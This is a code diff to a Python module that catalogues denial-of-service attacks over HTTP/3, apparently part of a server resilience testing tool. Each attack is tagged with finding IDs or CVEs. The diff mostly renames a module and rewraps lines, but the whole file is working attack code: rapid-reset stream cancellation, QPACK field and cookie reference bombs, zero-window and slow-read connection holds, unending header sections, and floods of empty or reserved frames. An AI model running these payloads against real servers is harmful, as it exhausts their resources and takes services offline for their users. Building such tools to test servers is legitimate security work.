@@ -1,9 +1,9 @@
 """Attacks over HTTP/3."""
 import h3
 import over_h2
-import quic
+import quic_wire
 from catalogue import attack
-from quic import stream_frame, varint
+from quic_wire import stream_frame, varint
 
 CANCELLED = 0x10C
 
@@ -55,9 +55,9 @@ def rapid_reset(run):
     ask = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(b"/big.bin"))
 
     def make(session, stream):
-        return [stream_frame(stream, 0, ask)
-                + bytes([quic.STOP_SENDING]) + varint(stream) + varint(CANCELLED)
-                + bytes([quic.RESET_STREAM]) + varint(stream) + varint(CANCELLED) + varint(len(ask))]
+        cancel = varint(stream) + varint(CANCELLED)
+        return [stream_frame(stream, 0, ask) + bytes([quic_wire.STOP_SENDING]) + cancel
+                + bytes([quic_wire.RESET_STREAM]) + cancel + varint(len(ask))]
     flood(run, each(make))
 
 
@@ -75,7 +75,8 @@ def referring(head, count):
 ONE_FIELD = h3.CAPACITY_4096 + h3.insert(b"x", b"a" * 3900)
 
 
-@attack("h3-field-bomb", "h3", "F3, H3-01, CVE-2025-64702", "requests with 60,000 one-byte references to a field of 3.9 KB")
+@attack("h3-field-bomb", "h3", "F3, H3-01, CVE-2025-64702",
+        "requests with 60,000 one-byte references to a field of 3.9 KB")
 def field_bomb(run):
     ask = referring(h3.request(), 60000)
     flood(run, each(lambda session, stream: session.ask(stream, ask), 2), encoder=ONE_FIELD)
@@ -87,7 +88,8 @@ def trailer_bomb(run):
     flood(run, each(lambda session, stream: session.ask(stream, ask), 2), encoder=ONE_FIELD)
 
 
-@attack("h3-cookie-crumbs", "h3", "H3-01, CVE-2026-47774", "requests with 14,000 references to a cookie's crumb")
+@attack("h3-cookie-crumbs", "h3", "H3-01, CVE-2026-47774",
+        "requests with 14,000 references to a cookie's crumb")
 def cookie_crumbs(run):
     ask = referring(h3.request(), 14000)
     flood(run, each(lambda session, stream: session.ask(stream, ask), 5),
@@ -114,16 +116,19 @@ def zero_window(name, source, does, connections, asks, encoder=b""):
         hold(run, run.many(connections, connect))
 
 
-zero_window("h3-zero-window", "F2, H2-05", "100 requests each on 20 connections, with a window of 0", 20,
+zero_window("h3-zero-window", "F2, H2-05",
+            "100 requests each on 20 connections, with a window of 0", 20,
             h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(b"/big.bin")))
-zero_window("h3-zero-window-fields", "F2, H2-05", "the same, each with 32 KiB of fields as references", 20,
+zero_window("h3-zero-window-fields", "F2, H2-05",
+            "the same, each with 32 KiB of fields as references", 20,
             referring(h3.request(b"/big.bin"), 7), ONE_FIELD)
 zero_window("h3-zero-window-ranges", "F2, H2-05", "the same, each for 16 ranges", 20,
             referring(h3.request(b"/big.bin"), 1),
             h3.CAPACITY_4096 + h3.insert(b"range", over_h2.SIXTEEN_RANGES))
 
 
-@attack("h3-slow-heads", "h3", "H1-15", "100 requests each on 20 connections whose field section never ends")
+@attack("h3-slow-heads", "h3", "H1-15",
+        "100 requests each on 20 connections whose field section never ends")
 def slow_heads(run):
     ask = varint(h3.HEADERS) + varint(1000) + h3.NO_REFERENCES + h3.request()
 
@@ -136,7 +141,8 @@ def slow_heads(run):
     hold(run, run.many(20, connect))
 
 
-@attack("h3-blocked", "h3", "H3-02", "requests that wait for a field that never comes, 100 each on 20 connections")
+@attack("h3-blocked", "h3", "H3-02",
+        "requests that wait for a field that never comes, 100 each on 20 connections")
 def blocked(run):
     ask = h3.frame(h3.HEADERS, h3.ONE_INSERTED + h3.request() + h3.indexed(0))
 
@@ -158,9 +164,11 @@ def frame_flood(name, source, does, piece):
         flood(run, each(lambda session, stream: session.ask(stream, body, fin=False), 4))
 
 
-frame_flood("h3-unknown-frames", "H2-07, CVE-2026-95101", "frames of a reserved type in a request's body",
+frame_flood("h3-unknown-frames", "H2-07, CVE-2026-95101",
+            "frames of a reserved type in a request's body",
             h3.frame(0x21, b""))
-frame_flood("h3-empty-data", "H2-07", "empty DATA frames of a body that never ends", h3.frame(h3.DATA, b""))
+frame_flood("h3-empty-data", "H2-07",
+            "empty DATA frames of a body that never ends", h3.frame(h3.DATA, b""))
 
 
 @attack("h3-priority-updates", "h3", "H3-08", "PRIORITY_UPDATE frames on the control stream")
@@ -172,15 +180,16 @@ def priority_updates(run):
 @attack("h3-one-way-streams", "h3", "H3-05", "one-way streams of unknown types")
 def one_way_streams(run):
     def batch(session, _count):
-        opened = range(getattr(session, "opened", 1), session.one_way)
-        session.opened = session.one_way
-        return [stream_frame(2 + 4 * i, 0, varint(0x21), True) for i in opened] or [b"\x01"]
+        first, session.next_one_way = session.next_one_way, session.one_way
+        return [stream_frame(2 + 4 * i, 0, varint(0x21), True)
+                for i in range(first, session.one_way)] or [b"\x01"]
     flood(run, batch, alone=True)
 
 
 @attack("h3-stop-ignored", "h3", "A5", "bodies that go on although the server has said STOP_SENDING")
 def stop_ignored(run):
-    head = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(method=b"POST")) + varint(0) + varint(1 << 40)
+    head = (h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(method=b"POST"))
+            + varint(h3.DATA) + varint(1 << 40))
 
     def connect():
         session = h3.connect(run)
@@ -201,7 +210,8 @@ def stop_ignored(run):
     hold(run, sessions)
 
 
-@attack("h3-slow-read", "h3", "H1-17, H2-05", "40 connections ask for 16 MiB ten times each and acknowledge nothing")
+@attack("h3-slow-read", "h3", "H1-17, H2-05",
+        "40 connections ask for 16 MiB ten times each and acknowledge nothing")
 def slow_read(run):
     ask = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(b"/big.bin"))
 
